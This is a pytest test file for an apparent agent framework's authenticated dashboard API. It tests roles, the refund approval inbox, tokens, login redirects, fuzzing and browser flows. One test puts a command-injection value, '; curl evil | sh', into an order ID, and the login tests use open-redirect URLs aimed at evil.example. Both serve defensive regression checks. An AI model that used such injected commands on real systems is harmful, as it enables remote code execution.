"""The authenticated HTTP API over real HTTP: roles, operator actions, login, the OpenAPI spec
fuzzed by schemathesis, and the approval inbox in headless Chromium."""

from __future__ import annotations

import asyncio
import re
from typing import Any

import pytest
from pydantic import BaseModel

from corral import App, AppConfig, HumanPolicy, RunContext, tool
from corral.server.dashboard import create_dashboard
from tests.browser import expect, open_page

httpx2 = pytest.importorskip("httpx2", reason="the HTTP client the openai SDK ships with")

WAIT = 10


class Refund(BaseModel):
    order_id: str
    amount_usd: float


class Receipt(BaseModel):
    receipt: str


executed: list[dict[str, Any]] = []


@tool(side_effect=True, approval="always")
def refund(order_id: str, amount_usd: float) -> dict[str, str]:
    """Refund an order."""
    executed.append({"order_id": order_id, "amount_usd": amount_usd})
    return {"receipt": f"r-{order_id}-{amount_usd:g}"}


def build(db: str) -> App:
    app = App(AppConfig(database=db, durable=False, humans=HumanPolicy(poll_s=0.05)))

    @app.workflow
    async def pay(ctx: RunContext, r: Refund) -> Receipt:
        done = await ctx.tool(refund, order_id=r.order_id, amount_usd=r.amount_usd)
        return Receipt(receipt=done["receipt"])

    return app


class Served:
    def __init__(self, app: App, url: str, tokens: dict[str, str]) -> None:
        self.app, self.url, self.tokens = app, url, tokens

    def client(self, role: str | None = None) -> Any:
        headers = {"Authorization": f"Bearer {self.tokens[role]}"} if role else {}
        return httpx2.AsyncClient(base_url=self.url, timeout=WAIT, headers=headers)

    async def waiting_run(self, order: str = "o1") -> tuple[Any, str]:
        assert self.app.humans is not None
        queue = self.app.humans.subscribe()
        handle = await self.app.start("pay", {"order_id": order, "amount_usd": 300})
        request = await asyncio.wait_for(queue.get(), WAIT)
        self.app.humans.unsubscribe(queue)
        return handle, request.id


@pytest.fixture
async def served(tmp_path, serve) -> Any:
    executed.clear()
    app = build(f"sqlite:///{tmp_path / 'c.db'}")
    await app.open()
    assert app.ops is not None
    tokens = {}
    for role in ("viewer", "operator", "admin"):
        tokens[role], _ = await app.ops.create_token(role, role, by="test", at=app.clock.now())
    url = await serve(create_dashboard(app.store, app=app))
    yield Served(app, url, tokens)
    await app.control("halt", "all", by="test")  # ends any run still waiting
    await app.close()


def _fill(path: str) -> str:
    return re.sub(r"\{[^}]+\}", "x1", path)


async def test_every_endpoint_refuses_without_a_token_and_mutations_without_the_role(served):
    async with served.client("viewer") as viewer:
        spec = (await viewer.get("/api/openapi.json")).json()
    async with served.client() as anonymous:
        for path in ("/api/openapi.json", "/api/docs"):
            assert (await anonymous.get(path)).status_code == 401, path
        operations = [
            (method.upper(), path)
            for path, item in spec["paths"].items()
            for method in item
            if method in ("get", "post", "put", "patch", "delete")
        ]
        mutating = [(m, p) for m, p in operations if m != "GET"]
        assert len(mutating) >= 6
        for method, path in operations:
            response = await anonymous.request(method, _fill(path), json={})
            assert response.status_code == 401, (method, path, response.text)
            assert response.headers["www-authenticate"] == "Bearer"
    async with served.client("viewer") as viewer:
        for method, path in mutating:
            response = await viewer.request(method, _fill(path), json={})
            assert response.status_code == 403, (method, path, response.text)
            assert "has role viewer; this needs" in response.json()["message"]
    async with served.client("operator") as operator:
        for path in ("/api/tokens", "/api/config", "/api/audit/verify"):
            assert (await operator.get(path)).status_code == 403, path
        response = await operator.post("/api/tokens", json={"name": "x", "role": "admin"})
        assert response.status_code == 403
    async with served.client() as anonymous:
        bad = {"Authorization": "Bearer crl_nope_nope"}
        response = await anonymous.get("/api/runs", headers=bad)
        assert (
            response.status_code == 401
            and "unknown, revoked or expired" in response.json()["message"]
        )


async def test_an_operator_decides_over_http_and_bad_decisions_are_4xx(served):
    handle, request_id = await served.waiting_run()
    path = f"/api/inbox/{request_id}/decide"
    async with served.client("viewer") as viewer:
        inbox = (await viewer.get("/api/inbox", params={"kind": "approval"})).json()
        assert [r["id"] for r in inbox] == [request_id]
        metrics = (await viewer.get("/metrics")).text
        assert 'corral_human_requests_pending{kind="approval"} 1.0' in metrics
        assert 'corral_human_requests_pending{kind="escalation"} 0.0' in metrics
        assert "corral_runs_held 0.0" in metrics
    async with served.client("operator") as operator:
        bad_edit = await operator.post(path, json={"action": "edit", "value": {"order_id": "o1"}})
        assert bad_edit.status_code == 422
        assert bad_edit.json()["errors"][0]["msg"] == "'amount_usd' is a required property"
        wrong = await operator.post(path, json={"action": "answer", "value": {}})
        assert wrong.status_code == 400 and "cannot 'answer' a approval" in wrong.json()["message"]
        unknown_action = await operator.post(path, json={"action": "explode"})
        assert unknown_action.status_code == 422
        missing = await operator.post("/api/inbox/nope/decide", json={"action": "approve"})
        assert missing.status_code == 404
        edited = {"order_id": "o1", "amount_usd": 30}
        ok = await operator.post(path, json={"action": "edit", "value": edited, "comment": "cap"})
        assert ok.status_code == 200 and ok.json()["status"] == "edited"
        assert ok.json()["decided_by"] == "token:operator"
        again = await operator.post(path, json={"action": "approve"})
        assert again.status_code == 409 and "already edited" in again.json()["message"]
    result = await asyncio.wait_for(handle.result(), WAIT)
    assert result.ok and result.output.receipt == "r-o1-30"
    assert executed == [{"order_id": "o1", "amount_usd": 30.0}]


async def test_the_inbox_shows_and_edits_the_whole_arguments(served):
    """The inbox showed a 4,000-character preview of arguments up to 10,000 characters long, and
    its edit box started from the preview; approving ran the hidden tail."""
    order = "o-" + "A" * 5_000 + " ; curl evil | sh"
    assert served.app.humans is not None
    queue = served.app.humans.subscribe()
    handle = await served.app.start("pay", {"order_id": order, "amount_usd": 300})
    await asyncio.wait_for(queue.get(), WAIT)
    served.app.humans.unsubscribe(queue)
    async with served.client("operator") as operator:
        [row] = (await operator.get("/api/inbox", params={"kind": "approval"})).json()
        assert row["payload"]["arguments"]["order_id"] == order
        page = (await operator.get("/inbox")).text
        box = page.split('<textarea name="value"', 1)[1].split("</textarea>", 1)[0]
        assert "A" * 5_000 + " ; curl evil | sh" in box
        assert "truncated" not in box
        edited = {"order_id": "o-safe", "amount_usd": 30}
        path = f"/api/inbox/{row['id']}/decide"
        ok = await operator.post(path, json={"action": "edit", "value": edited})
        assert ok.status_code == 200
    result = await asyncio.wait_for(handle.result(), WAIT)
    assert result.ok and executed == [{"order_id": "o-safe", "amount_usd": 30.0}]


async def test_cancel_and_controls_over_http(served):
    handle, _ = await served.waiting_run("o2")
    async with served.client("operator") as operator:
        response = await operator.post(f"/api/runs/{handle.run_id}/cancel", json={"reason": "x"})
        assert response.status_code == 200 and response.json()["scope"] == "run"
        result = await asyncio.wait_for(handle.result(), WAIT)
        assert result.status == "killed" and executed == []
        paused = await operator.post(
            "/api/controls", json={"action": "pause", "scope": "agent", "name": "writer"}
        )
        assert paused.status_code == 200
        state = (await operator.get("/api/controls")).json()
        assert state["paused_agents"] == {"writer": "by token:operator"}
        bad = await operator.post("/api/controls", json={"action": "pause", "scope": "run"})
        assert bad.status_code == 400 and "unknown control scope 'run' for 'pause'" in bad.text
    async with served.client("admin") as admin:
        audit = (await admin.get("/api/audit", params={"action": "operator.halt"})).json()
        assert audit[0]["actor"] == "token:operator"
        verified = (await admin.get("/api/audit/verify")).json()
        assert verified["ok"] and verified["entries"] >= 5


async def test_tokens_over_http_work_until_revoked(served):
    async with served.client("admin") as admin:
        created = await admin.post("/api/tokens", json={"name": "ci", "role": "operator"})
        assert created.status_code == 201
        body = created.json()
        assert body["token"].startswith("crl_") and body["role"] == "operator"
        listed = (await admin.get("/api/tokens")).json()
        assert "ci" in {t["name"] for t in listed} and all("hash" not in t for t in listed)
        headers = {"Authorization": f"Bearer {body['token']}"}
        assert (await admin.get("/api/inbox", headers=headers)).status_code == 200
        assert (await admin.delete(f"/api/tokens/{body['id']}")).status_code == 200
        assert (await admin.get("/api/inbox", headers=headers)).status_code == 401
        assert (await admin.delete(f"/api/tokens/{body['id']}")).status_code == 409
        config = (await admin.get("/api/config")).json()
        assert config["database"].startswith("sqlite:///") and config["humans"]["poll_s"] == 0.05


async def test_pages_need_a_login_and_the_login_sets_a_strict_cookie(served):
    # A browser sends its origin with every POST; httpx does not unless told.
    same_origin = {"Origin": served.url}
    async with httpx2.AsyncClient(
        base_url=served.url, timeout=WAIT, headers=same_origin
    ) as browser:
        first = await browser.get("/inbox?kind=approval")
        assert first.status_code == 303
        assert first.headers["location"] == "/login?next=/inbox%3Fkind%3Dapproval"
        refused = await browser.post("/login", data={"token": "crl_bad_bad", "next": "/inbox"})
        assert refused.status_code == 401 and "unknown, revoked or expired token" in refused.text
        login = await browser.post(
            "/login", data={"token": served.tokens["viewer"], "next": "//evil.example/"}
        )
        assert login.status_code == 303 and login.headers["location"] == "/"
        for sneaky in ("/\\evil.example/", "https://evil.example/", "evil"):
            again = await browser.post(
                "/login", data={"token": served.tokens["viewer"], "next": sneaky}
            )
            assert again.headers["location"] == "/", sneaky
        cookie = login.headers["set-cookie"]
        assert "HttpOnly" in cookie and "SameSite=strict" in cookie
        page = await browser.get("/inbox")
        assert page.status_code == 200 and "viewer (viewer)" in page.text
        assert (await browser.post("/logout")).status_code == 303


# Schemathesis' own strategies touch the `random` module, which Hypothesis deprecates; that is
# between those two libraries, not about our API.
@pytest.mark.filterwarnings("ignore::hypothesis.errors.HypothesisDeprecationWarning")
async def test_the_openapi_spec_survives_schemathesis_without_a_server_error(served):
    """Every operation, fuzzed with schema-valid and invalid inputs as an admin: no 5xx."""
    schemathesis = pytest.importorskip("schemathesis", reason="pip install schemathesis")
    from hypothesis import HealthCheck, given, settings

    await served.waiting_run("o3")  # a real pending request among the fuzzed ids
    async with served.client("viewer") as viewer:
        spec = (await viewer.get("/api/openapi.json")).json()
    schema = schemathesis.openapi.from_dict(spec)
    headers = {"Authorization": f"Bearer {served.tokens['admin']}"}
    failures: list[str] = []
    calls = 0

    def fuzz() -> None:
        nonlocal calls
        for result in schema.get_all_operations():
            operation = result.ok()

            @settings(
                max_examples=25,
                deadline=None,
                database=None,
                suppress_health_check=list(HealthCheck),
            )
            @given(case=operation.as_strategy())
            def check(case: Any) -> None:
                nonlocal calls
                if case.path_parameters and "token_id" in case.path_parameters:
                    return  # revoking random ids is covered above; keep the admin token alive
                response = case.call(base_url=served.url, headers=headers)
                calls += 1
                if response.status_code >= 500:
                    failures.append(f"{case.method} {case.formatted_path}: {response.status_code}")

            check()

    await asyncio.to_thread(fuzz)
    assert calls > 200
    assert failures == []


async def test_the_approval_inbox_works_in_chromium(served, browser):
    handle, request_id = await served.waiting_run("o4")
    page, problems = await open_page(browser, served.url + "/inbox", None, go=False)
    await page.goto(served.url + "/inbox")
    assert page.url.endswith("/login?next=/inbox")
    await page.fill("input[name=token]", served.tokens["operator"])
    await page.click("#login button[type=submit]")
    await page.wait_for_url("**/inbox")
    card = page.locator(f'section.request[data-request="{request_id}"]')
    assert await card.count() == 1
    assert "o4" in await card.locator("pre.payload").inner_text()
    await card.locator("details summary").click()
    await card.locator("textarea[name=value]").fill('{"order_id": "o4", "amount_usd": 1}')
    await card.locator("button.edit").click()
    await card.wait_for(state="detached")
    result = await asyncio.wait_for(handle.result(), WAIT)
    assert result.ok and result.output.receipt == "r-o4-1"
    await page.reload()
    assert await page.locator("#inbox-empty").count() == 1
    assert await page.locator(f'#decided tr[data-request="{request_id}"]').count() == 1
    assert problems == []


async def test_a_viewer_sees_why_the_inbox_refuses_their_decision(served, browser):
    _, request_id = await served.waiting_run("o5")
    page, _ = await open_page(browser, served.url + "/inbox", served.tokens["viewer"])
    card = page.locator(f'section.request[data-request="{request_id}"]')
    await card.locator("button.approve").click()
    error = card.locator(".decide-error")
    await expect(error).not_to_have_text("", timeout=WAIT * 1000)
    assert "has role viewer; this needs operator" in await error.inner_text()
    assert (await served.app.ops.get_request(request_id))["status"] == "pending"


async def test_dashboard_buttons_cancel_a_run_and_stop_noncritical_work(served, browser):
    handle, _ = await served.waiting_run("o6")
    page, problems = await open_page(
        browser, f"{served.url}/runs/{handle.run_id}", served.tokens["operator"]
    )
    await page.click("#cancel-run")
    result = await asyncio.wait_for(handle.result(), WAIT)
    assert result.status == "killed" and "token:operator" in result.error["message"]

    await page.goto(served.url + "/controls")
    assert await page.locator("#paused-noncritical").inner_text() == "no"
    await page.click("#toggle-noncritical")
    # `expect`, not `wait_for_function`: the page's CSP allows no eval, which the latter needs.
    await expect(page.locator("#paused-noncritical")).not_to_have_text("no", timeout=WAIT * 1000)
    assert served.app.guards.kill.state["paused_noncritical"] == "by token:operator"
    await page.click("#toggle-noncritical")  # now "Resume non-critical work"
    await expect(page.locator("#paused-noncritical")).to_have_text("no", timeout=WAIT * 1000)
    assert served.app.guards.kill.state["paused_noncritical"] is None
    history = page.locator("#control-history tbody tr")
    assert await history.count() == 3  # halt run, pause, resume
    assert problems == []


async def test_a_locked_database_is_a_503_to_retry_not_a_500(served, monkeypatch):
    from corral.errors import StateError

    async def locked(**_: Any) -> list[dict[str, Any]]:
        raise StateError("database sqlite:///c.db is locked by another process")

    assert served.app.ops is not None
    monkeypatch.setattr(served.app.ops, "list_requests", locked)
    async with served.client("viewer") as viewer:
        response = await viewer.get("/api/inbox")
        assert response.status_code == 503 and response.headers["retry-after"] == "5"
        assert "locked" in response.json()["message"]
        page = await viewer.get("/inbox")
        assert page.status_code == 503 and "locked" in page.text
